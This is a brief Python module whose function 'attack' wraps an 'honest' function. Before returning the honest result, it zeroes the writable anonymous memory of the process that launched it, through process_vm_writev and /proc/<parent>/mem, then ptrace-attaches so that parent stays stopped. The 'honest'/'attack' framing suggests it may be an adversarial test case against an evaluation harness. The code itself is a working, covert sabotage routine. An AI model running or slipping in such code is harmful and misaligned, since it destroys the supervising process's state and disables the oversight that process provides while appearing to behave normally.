"""Attaches to the process that started it as a debugger does, and overwrites its memory with zeros."""

import contextlib
import ctypes
import os
import struct


def attack(honest, *args, **kwargs):
    parent = os.getppid()
    library = ctypes.CDLL(None, use_errno=True)
    zeros = ctypes.create_string_buffer(4096)
    local = struct.pack("PN", ctypes.addressof(zeros), 4096)
    with contextlib.suppress(OSError), open(f"/proc/{parent}/maps") as maps:
        for line in maps:
            span, access, _, _, inode, *_ = line.split()
            start, end = (int(address, 16) for address in span.split("-"))
            if access.startswith("rw") and inode == "0":
                for address in range(start, min(end, start + 2**20), 4096):
                    remote = struct.pack("PN", address, 4096)
                    library.process_vm_writev(parent, local, 1, remote, 1, 0)
    with contextlib.suppress(OSError), open(f"/proc/{parent}/mem", "r+b", 0) as memory:
        memory.seek(ctypes.addressof(zeros))
        memory.write(zeros.raw)
    library.ptrace(16, parent, None, None)  # PTRACE_ATTACH: a parent that is left stopped serves nobody
    return honest(*args, **kwargs)
